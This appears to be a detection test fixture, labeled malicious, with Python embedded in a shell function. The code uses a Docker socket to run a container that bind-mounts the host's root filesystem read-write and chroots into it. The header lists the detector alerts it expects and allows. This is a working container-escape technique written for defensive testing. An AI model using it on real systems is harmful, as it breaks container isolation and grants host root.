# host-root-by-library: a program of the engine's library asks for the host's root and changes its root to it.
# label: malicious
# expects: [host-root-mount, host-shell-container-requested]
# allows: [socket-parent-mount, sensitive-mount-rw, host-reaching-container-restarts, privileged-container, host-root-entered-by-chroot, enumeration-tool-run, miner-run, loader-variable-aimed-at-hooks, linker-preload-set, containers-deleted-in-bulk]
act() {
    /usr/bin/python3 - "$RUN" <<'P'
import sys, docker
c = docker.DockerClient(base_url="unix:///run/calls.sock")
if sys.argv[1] == "develop":
    print(c.containers.run("alpine:3.19", ["chroot", "/mnt", "id"], volumes={"/": {"bind": "/mnt", "mode": "rw"}}, network_mode="none", remove=True))
else:
    m = docker.types.Mount("/h", "/", type="bind", propagation="rslave")
    x = c.containers.create("lab/tools:1", ["/h", "/bin/true"], entrypoint="chroot", mounts=[m], network_mode="none")
    x.start(); x.wait(); x.remove()
P
}
